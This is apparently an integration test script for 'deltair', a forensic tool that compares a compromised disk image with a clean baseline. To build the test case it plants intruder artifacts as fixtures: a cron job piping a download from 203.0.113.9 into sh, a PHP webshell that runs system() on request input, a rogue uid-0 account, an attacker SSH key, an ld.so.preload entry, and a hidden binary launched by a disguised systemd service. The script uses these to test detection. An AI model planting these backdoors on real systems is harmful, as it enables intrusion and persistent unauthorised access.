#!/bin/bash
# t3010: deltair scan on a compromised server image. A gold GPT/ext4 image (accounts, root's
# SSH keys, cron, sshd_config, a systemd unit enabled through a .wants link, a web root, a
# gzip'd rotated log, real binaries in /usr/bin) is baselined; a copy is changed through a
# read-write loop mount the way an intruder would, and the ground truth is written down as
# each change is made: the file events (class and flags, per docs/events.md), the osquery
# rows that must appear or disappear, the YARA rules that must fire (rules/*.yar) and the
# artifact definitions that cover the files (the default set: upstream's from Debian's
# forensic-artifacts package, and artifacts/).
# Then: YARA saw exactly the changed regular files (never an unchanged one); no row event
# comes from an unchanged file except the documented re-parses (/etc/group after a passwd
# change, a unit file whose .wants link came or went).
. "$TOP/tests/cli/lib.sh"
need mke2fs sgdisk gzip jq python3

# Upstream's definitions: Debian's forensic-artifacts (a dependency of the package), or
# $DELTAIR_ARTIFACTS_UPSTREAM as deltair reads it. Without them every other check (file
# events, YARA, rows, members, summary, deltair's own definitions) still runs; only the
# checks of upstream's definitions are left out, and the test then ends as a skip, or as a
# failure when any other check failed.
UPSTREAM=${DELTAIR_ARTIFACTS_UPSTREAM:-/usr/share/artifacts}
HAVE_UPSTREAM=1
[ -f "$UPSTREAM/linux.yaml" ] || HAVE_UPSTREAM=0

# own_group NAME: NAME is an ARTIFACT_GROUP of artifacts/.
own_group()
{
	awk -v n="$1" '/^name: / { cur = $2 } cur == n && /type: ARTIFACT_GROUP/ { f = 1 }
		END { exit !f }' "$TOP"/artifacts/*.yaml
}

TRUTH=$PWD/truth.jsonl
: > "$TRUTH"
# truth KIND ARGS...: one expected fact, a JSON object per line.
#   file CHANGE PATH [FLAG...]       a file event
#   row TABLE ACTION PATH COL=VAL... a row event with at least these column values
#   nrow N TABLE ACTION PATH COL=VAL... N such row events
#   yara PATH RULE                   a yara event
#   member PATH MEMBER SHA256        a member event (of an archive in the delta)
#   art PATH NAME                    NAME is in the file event's artifacts
truth()
{
	# Without upstream: neither its definitions nor deltair's groups of them.
	[ "$1" = art ] && [ "$HAVE_UPSTREAM" = 0 ] && { [[ $3 != Deltair* ]] || own_group "$3"; } &&
		return 0
	python3 -c '
import json, sys
k, a = sys.argv[1], sys.argv[2:]
if k == "file":
    o = {"k": k, "change": a[0], "path": a[1], "flags": sorted(a[2:])}
elif k in ("row", "nrow"):
    n = int(a.pop(0)) if k == "nrow" else 1
    o = {"k": "row", "n": n, "table": a[0], "action": a[1], "path": a[2],
         "cols": dict(x.split("=", 1) for x in a[3:])}
elif k == "member":
    o = {"k": k, "path": a[0], "member": a[1], "sha256": a[2]}
elif k == "yara":
    o = {"k": k, "path": a[0], "rule": a[1]}
else:
    o = {"k": k, "path": a[0], "name": a[1]}
print(json.dumps(o, sort_keys=True))' "$@" >> "$TRUTH"
}

# The gold system.
T='2021-06-01 12:00:00 UTC'
(
	set -e
	mkdir -p gold && cd gold
	mkdir -p etc/cron.d etc/ssh etc/systemd/system/multi-user.target.wants root/.ssh \
		home/alice home/bob usr/bin usr/local/lib usr/local/bin var/www/html var/log tmp
	cat > etc/passwd << 'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
bob:x:1001:1001:Bob,,,:/home/bob:/bin/bash
EOF
	cat > etc/group << 'EOF'
root:x:0:
daemon:x:1:
sudo:x:27:alice
www-data:x:33:
shadow:x:42:
alice:x:1000:
bob:x:1001:
EOF
	cat > etc/shadow << 'EOF'
root:*:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
www-data:*:19000:0:99999:7:::
alice:$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijklmnopqrstu:19000:0:99999:7:::
bob:!:19000:0:99999:7:::
EOF
	chown 0:42 etc/shadow
	chmod 0640 etc/shadow
	printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoldAdminKeyGoldAdminKeyGoldAdminKey0 admin@bastion\n' \
		> root/.ssh/authorized_keys
	chmod 0700 root root/.ssh
	chmod 0600 root/.ssh/authorized_keys
	cat > etc/crontab << 'EOF'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
EOF
	printf '30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all\n' > etc/cron.d/e2scrub_all
	printf 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n' > etc/ssh/sshd_config
	cat > etc/systemd/system/backup.service << 'EOF'
[Unit]
Description=Nightly backup

[Service]
ExecStart=/usr/local/bin/backup

[Install]
WantedBy=multi-user.target
EOF
	ln -s /etc/systemd/system/backup.service etc/systemd/system/multi-user.target.wants/backup.service
	printf '#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n' > usr/local/bin/backup
	chmod 0755 usr/local/bin/backup
	printf '<?php echo "hello"; ?>\n' > var/www/html/index.php
	for i in $(seq 1 300); do
		printf 'Jun  1 06:%02d:01 web01 CRON[%d]: (root) CMD (job %d)\n' $((i % 60)) $((2000 + i)) "$i"
	done > var/log/syslog.2
	gzip -9 var/log/syslog.2
	printf 'Jun  2 00:00:01 web01 systemd[1]: Started Daily apt upgrade.\n' > var/log/syslog
	for b in ls cat bash true sleep; do cp "/usr/bin/$b" usr/bin/; done
	printf 'export PS1=alice\n' > home/alice/.bashrc
	chown -R 1000:1000 home/alice
	chown -R 1001:1001 home/bob
	chmod 1777 tmp
	find . -depth -exec touch -h -d "$T" {} +
)
[ $? -eq 0 ] || die "building the gold tree failed"
part_size=$((48 * 1024 * 1024))
mke2fs -q -F -t ext4 -d gold p1.img "$((part_size / 1024))k" > /dev/null || die "mke2fs failed"
off=$(mkgpt gold.img p1.img 8300) || die "mkgpt failed"
rm -f p1.img

RULES=(--rules "$TOP/rules")
ARTS=() # the default: upstream's ($UPSTREAM) and artifacts/
dt_ok baseline --no-progress -o gold.dtree gold.img

# The gold against its own baseline: nothing at all.
dt scan --no-progress "${RULES[@]}" "${ARTS[@]}" --baseline gold.dtree gold.img
expect_rc 0 "scan of the gold image against its own baseline"
[ "$(grep -c -v '"event":"summary"' out)" -eq 0 ] ||
	fail "scan of the gold against itself reports: $(grep -v '"event":"summary"' out | head -c 1000)"
jq -e 'select(.event == "summary") | .yara.candidates == 0 and .yara.scanned == 0' out > /dev/null ||
	fail "scan of the gold against itself scanned files: $(tail -n 1 out)"

# The compromise.
cp --sparse=always gold.img incident.img
t_loop incident.img -o "$off" --sizelimit "$part_size"
M=$PWD/m
t_mount "$LOOP" "$M"
(
	set -e
	cd "$M"
	# A second root account, in passwd and shadow (appended: the gold is a prefix).
	echo 'sysbackup:x:0:0:System Backup:/root:/bin/bash' >> etc/passwd
	truth file appended /etc/passwd
	truth row users added /etc/passwd username=sysbackup uid=0 gid=0 directory=/root shell=/bin/bash
	truth art /etc/passwd LinuxPasswdFile
	truth art /etc/passwd DeltairLinuxAuthentication
	echo 'sysbackup:$6$saltsalt$hashhashhash:19500:0:99999:7:::' >> etc/shadow
	truth file appended /etc/shadow
	truth row shadow added /etc/shadow username=sysbackup
	truth art /etc/shadow DeltairLinuxAuthentication
	truth art /etc/shadow UnixShadowFile
	# A key for root.
	echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKeyAtt root@kali' \
		>> root/.ssh/authorized_keys
	truth file appended /root/.ssh/authorized_keys hidden
	# osquery's authorized_keys has a row per user for each key in the user's home: with
	# sysbackup's home also /root, the new key gives two rows (root and sysbackup, both uid
	# 0) and the admin's key one more (sysbackup's); the gold had one row for root.
	truth nrow 2 authorized_keys added /root/.ssh/authorized_keys uid=0 algorithm=ssh-ed25519 \
		key=AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKeyAtt comment=root@kali \
		key_file=/root/.ssh/authorized_keys options=
	truth nrow 1 authorized_keys added /root/.ssh/authorized_keys uid=0 \
		key=AAAAC3NzaC1lZDI1NTE5AAAAIGoldAdminKeyGoldAdminKeyGoldAdminKey0 comment=admin@bastion
	truth art /root/.ssh/authorized_keys SSHAuthorizedKeysFiles
	truth art /root/.ssh/authorized_keys DeltairRootSshFiles
	# A cron job fetching and running a script every five minutes. osquery's crontab table
	# keeps the user field of a system crontab in "command" (genCronLine joins fields 6+).
	printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' > etc/cron.d/x
	truth file added /etc/cron.d/x
	truth row crontab added /etc/cron.d/x minute='*/5' hour='*' day_of_month='*' month='*' \
		day_of_week='*' 'command=root curl -s http://203.0.113.9/x | sh' path=/etc/cron.d/x
	truth yara /etc/cron.d/x cron_reverse_shell_or_download
	truth yara /etc/cron.d/x download_pipe_shell
	truth art /etc/cron.d/x LinuxCronTabs
	truth art /etc/cron.d/x DeltairLinuxScheduledTasks
	# A webshell in a new upload folder.
	mkdir var/www/html/uploads
	truth file added /var/www/html/uploads
	printf '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n' \
		> var/www/html/uploads/thumb.php
	truth file added /var/www/html/uploads/thumb.php
	truth yara /var/www/html/uploads/thumb.php php_webshell_request_exec
	truth art /var/www/html/uploads/thumb.php DeltairWebRootFiles
	# An ELF under a hidden name in a hidden directory.
	mkdir -p usr/local/lib/.cache
	truth file added /usr/local/lib/.cache hidden
	cp /bin/true usr/local/lib/.cache/.d
	truth file added /usr/local/lib/.cache/.d executable hidden
	truth yara /usr/local/lib/.cache/.d elf_hidden_file
	# The dynamic linker's preload list.
	echo /usr/local/lib/libsysd.so.1 > etc/ld.so.preload
	truth file added /etc/ld.so.preload
	truth row ld_preload added /etc/ld.so.preload path=/etc/ld.so.preload \
		library=/usr/local/lib/libsysd.so.1 source=ld.so.preload
	truth yara /etc/ld.so.preload ld_so_preload_present
	truth art /etc/ld.so.preload LinuxLoaderSystemPreloadFile
	# Root logins over SSH.
	sed -i 's/^PermitRootLogin no$/PermitRootLogin yes/' etc/ssh/sshd_config
	grep -q '^PermitRootLogin yes$' etc/ssh/sshd_config
	truth file modified /etc/ssh/sshd_config
	truth row sshd_configs removed /etc/ssh/sshd_config 'option=permitrootlogin no'
	truth row sshd_configs added /etc/ssh/sshd_config 'option=permitrootlogin yes'
	truth art /etc/ssh/sshd_config SshdConfigFile
	# A service, enabled the way systemctl enable does it.
	cat > etc/systemd/system/evil.service << 'EOF'
[Unit]
Description=System cache daemon

[Service]
ExecStart=/usr/local/lib/.cache/.d

[Install]
WantedBy=multi-user.target
EOF
	truth file added /etc/systemd/system/evil.service
	truth row systemd_units added /etc/systemd/system/evil.service id=evil.service \
		unit_file_state=enabled 'description=System cache daemon' \
		fragment_path=/etc/systemd/system/evil.service
	truth art /etc/systemd/system/evil.service DeltairSystemdUnitFiles
	ln -s /etc/systemd/system/evil.service etc/systemd/system/multi-user.target.wants/evil.service
	truth file added /etc/systemd/system/multi-user.target.wants/evil.service
	# The gold's service disabled (its .wants link removed): the unit file did not change,
	# but its unit_file_state did; scan re-parses it (docs/events.md).
	rm etc/systemd/system/multi-user.target.wants/backup.service
	truth file deleted /etc/systemd/system/multi-user.target.wants/backup.service
	truth row systemd_units removed /etc/systemd/system/backup.service id=backup.service \
		unit_file_state=enabled
	truth row systemd_units added /etc/systemd/system/backup.service id=backup.service \
		unit_file_state=disabled 'description=Nightly backup'
	# The gold's cron job removed: its row goes.
	rm etc/cron.d/e2scrub_all
	truth file deleted /etc/cron.d/e2scrub_all
	truth row crontab removed /etc/cron.d/e2scrub_all minute=30 hour=3 day_of_week=0 \
		path=/etc/cron.d/e2scrub_all
	# Only the mode of a parsed file: metadata, and its rows are the same (no row event).
	chmod 0600 etc/crontab
	truth file metadata /etc/crontab
	# A setuid copy of a gold binary: metadata, no YARA (the content is the gold's), and a
	# suid_bin row (osquery: permissions "S" for setuid; owner names from the image).
	chmod 4755 usr/bin/sleep
	truth file metadata /usr/bin/sleep executable suid_added
	truth row suid_bin added /usr/bin/sleep path=/usr/bin/sleep username=root groupname=root \
		permissions=S
	# A rotated log edited to hide a line: modified, and a log that did not just grow.
	gunzip var/log/syslog.2.gz
	sed -i 's/(job 150)/(job 151)/' var/log/syslog.2
	# Its one member (issue 14), with the SHA-256 of what gunzip gives.
	truth member /var/log/syslog.2.gz syslog.2 "$(sha256sum < var/log/syslog.2 | cut -c1-64)"
	gzip -9 var/log/syslog.2
	truth file modified /var/log/syslog.2.gz truncated_log
)
[ $? -eq 0 ] || die "applying the compromise failed"
sync
_t_umount "$M" || die "umount failed"
losetup -d "$LOOP"

dt scan --no-progress "${RULES[@]}" "${ARTS[@]}" --baseline gold.dtree incident.img
expect_rc 1 "scan --baseline gold.dtree incident.img"
cp out events.jsonl
cp err events.err
tail -n 1 events.jsonl | jq -e '.event == "summary"' > /dev/null ||
	fail "the last line is not the summary: $(tail -n 1 events.jsonl | head -c 500)"

python3 - "$TRUTH" events.jsonl gold.dtree << 'EOF' || fail "scan events are not the ground truth"
import collections, json, sys
truth = [json.loads(l) for l in open(sys.argv[1])]
ev = [json.loads(l) for l in open(sys.argv[2], "rb")]
bad = []
def kind(k):
    return [e for e in ev if e.get("event") == k]
files = {e["path"]: e for e in kind("file")}
if len(files) != len(kind("file")):
    bad.append("a path has two file events")
for e in ev:
    if e.get("event") not in ("file", "yara", "member", "row", "summary"):
        bad.append("unexpected event: %s" % json.dumps(e)[:300])
    if e.get("event") != "summary" and e.get("fs") != "p1":
        bad.append("fs is not p1: %s" % json.dumps(e)[:300])

# File events: exactly the truth, class and flags.
want = {t["path"]: t for t in truth if t["k"] == "file"}
for p, t in want.items():
    e = files.get(p)
    if e is None:
        bad.append("missing file event %s %s" % (t["change"], p))
    elif e["change"] != t["change"] or sorted(e.get("flags", [])) != t["flags"]:
        bad.append("%s: change %s flags %s, want %s %s" % (p, e["change"], e.get("flags"),
                                                         t["change"], t["flags"]))
for p, e in files.items():
    if p not in want and "deleted_entry" in e.get("flags", []):
        # A name the kernel left in directory space (gunzip, gzip and sed -i create and
        # remove files); kernels that wipe them leave none.
        print("  note: unallocated name %r" % p)
    elif p not in want:
        bad.append("extra file event: %s %s" % (e["change"], p))
    if not isinstance(e.get("artifacts"), list):
        bad.append("%s: no artifacts list" % p)

# Artifacts named on the file events.
for t in truth:
    if t["k"] == "art" and t["name"] not in files.get(t["path"], {}).get("artifacts", []):
        bad.append("%s: artifacts %s lack %s" % (t["path"], files.get(t["path"], {}).get("artifacts"),
                                               t["name"]))

# Rows: every expected row is there (columns at least as given).
rows = kind("row")
for t in (t for t in truth if t["k"] == "row"):
    hit = [r for r in rows if r["table"] == t["table"] and r["action"] == t["action"] and
           r["path"] == t["path"] and all(r["columns"].get(k) == v for k, v in t["cols"].items())]
    if len(hit) != t["n"]:
        bad.append("row %s %s %s %s: %d matching events, want %d; same table: %s" % (
            t["table"], t["action"], t["path"], t["cols"], len(hit), t["n"],
            [json.dumps(r["columns"]) for r in rows if r["table"] == t["table"]][:4]))
# Every row event comes from a file of the delta, except two documented re-parses:
# /etc/group (user_groups) when /etc/passwd changed, and a unit file when a .wants link to
# it came or went.
wants = {p.rsplit("/", 1)[1] for p in files if "/multi-user.target.wants/" in p}
for r in rows:
    dep = (r["path"] == "/etc/group" and r["table"] == "user_groups") or \
          (r["table"] == "systemd_units" and r["path"].rsplit("/", 1)[1] in wants)
    if r["path"] not in files and not dep:
        bad.append("row event for an unchanged file: %s" % json.dumps(r)[:300])
    if not all(isinstance(v, str) for v in r["columns"].values()):
        bad.append("row values are not all strings: %s" % json.dumps(r)[:300])
# The users table gained exactly the one account, and lost none.
u = [(r["action"], r["columns"].get("username")) for r in rows if r["table"] == "users"]
if u != [("added", "sysbackup")]:
    bad.append("users rows: %s, want one added row for sysbackup" % u)
# authorized_keys: three added rows (above), none removed.
a = [r["action"] for r in rows if r["table"] == "authorized_keys"]
if a != ["added"] * 3:
    bad.append("authorized_keys rows: %s, want 3 added" % a)
# Nothing but the changed line of sshd_config.
s = sorted((r["action"], r["columns"].get("option")) for r in rows if r["table"] == "sshd_configs")
if s != [("added", "permitrootlogin yes"), ("removed", "permitrootlogin no")]:
    bad.append("sshd_configs rows: %s" % s)
# No row from the file whose mode alone changed.
if any(r["path"] == "/etc/crontab" for r in rows):
    bad.append("a row event for /etc/crontab, whose content did not change")
# systemd_units: evil.service added, backup.service's state changed; nothing else.
u = sorted((r["action"], r["columns"].get("id"), r["columns"].get("unit_file_state"))
           for r in rows if r["table"] == "systemd_units")
if u != [("added", "backup.service", "disabled"), ("added", "evil.service", "enabled"),
         ("removed", "backup.service", "enabled")]:
    bad.append("systemd_units rows: %s" % u)

# Members of the changed archives (the one gzip'd log): exactly the truth.
got = sorted((m["path"], m["member"], m.get("sha256")) for m in kind("member"))
exp = sorted((t["path"], t["member"], t["sha256"]) for t in truth if t["k"] == "member")
if got != exp:
    bad.append("members %s, want %s" % (got, exp))

# YARA: exactly the expected rules, only on changed regular files, sha256 as on the file event.
got = sorted((y["path"], y["rule"]) for y in kind("yara"))
exp = sorted((t["path"], t["rule"]) for t in truth if t["k"] == "yara")
if got != exp:
    bad.append("yara matches %s, want %s" % (got, exp))
for y in kind("yara"):
    f = files.get(y["path"])
    if f is None or f.get("sha256") != y.get("sha256"):
        bad.append("yara event not on a changed file with its sha256: %s" % json.dumps(y)[:300])
    if not y.get("namespace") or not isinstance(y.get("strings"), list) or \
       y.get("meta", {}).get("severity") not in ("low", "medium", "high", "critical"):
        bad.append("yara event lacks namespace/strings/meta: %s" % json.dumps(y)[:300])

# The summary: YARA candidates are the changed regular files that are added, modified,
# appended, renamed or type, counted here from the file events; each scanned or skipped.
s = ev[-1]
cand = sum(1 for e in files.values() if e["type"] == "file" and
           e["change"] in ("added", "modified", "appended", "renamed", "type") and
           "deleted_entry" not in e.get("flags", []))
y = s.get("yara", {})
sk = y.get("skipped", {})
if not (y.get("candidates") == cand == y.get("scanned", 0) + sum(sk.values())):
    bad.append("summary.yara %s, but %d candidates in the file events" % (json.dumps(y), cand))
if y.get("scanned") != cand or any(sk.values()):
    bad.append("summary.yara: every candidate should be scanned: %s" % json.dumps(y))
if y.get("files_matched") != len({p for p, _ in got}) or y.get("matches") != len(got):
    bad.append("summary.yara matches/files_matched %s vs %d events" % (json.dumps(y), len(got)))
c = collections.Counter(e["change"] for e in files.values())
if cand != 10:
    bad.append("%d YARA candidates in the file events, the compromise made 10" % cand)
if any(s["counts"].get(k, 0) != c.get(k, 0) for k in s["counts"]) or s["delta"] != len(files):
    bad.append("summary counts %s delta %s vs events %s" % (s["counts"], s["delta"], dict(c)))
r = s.get("rows", {})
if r.get("added") != sum(1 for x in rows if x["action"] == "added") or \
   r.get("removed") != sum(1 for x in rows if x["action"] == "removed"):
    bad.append("summary.rows %s vs row events" % json.dumps(r))
if s.get("errors") != 0:
    bad.append("summary.errors %s" % s.get("errors"))
for b in bad:
    print("  " + b)
sys.exit(1 if bad else 0)
EOF

# --no-rules, --no-rows, --no-artifacts: the same file events, without the rest.
dt scan --no-progress --no-rules --no-rows --no-artifacts --no-decompose --baseline gold.dtree \
	incident.img
expect_rc 1 "scan --no-rules --no-rows --no-artifacts --no-decompose"
[ "$(jq -r 'select(.event != "file" and .event != "summary") | .event' out | sort -u | tr '\n' ' ')" = "" ] ||
	fail "--no-rules --no-rows gave yara or row events"
jq -e 'select(.event == "file") | has("artifacts")' out | grep -q true &&
	fail "--no-artifacts still lists artifacts"
jq -e 'select(.event == "summary") | (has("yara") or has("rows")) | not' out > /dev/null ||
	fail "--no-rules --no-rows summary still has yara/rows: $(tail -n 1 out)"
diff <(jq -c 'select(.event == "file") | [.path, .change, .flags]' out) \
	<(jq -c 'select(.event == "file") | [.path, .change, .flags]' events.jsonl) > /dev/null ||
	fail "--no-rules --no-rows --no-artifacts changed the file events"
[ "$HAVE_UPSTREAM" = 1 ] ||
	skip "no upstream ForensicArtifacts in $UPSTREAM (the forensic-artifacts package): all but their checks ran"
t_done
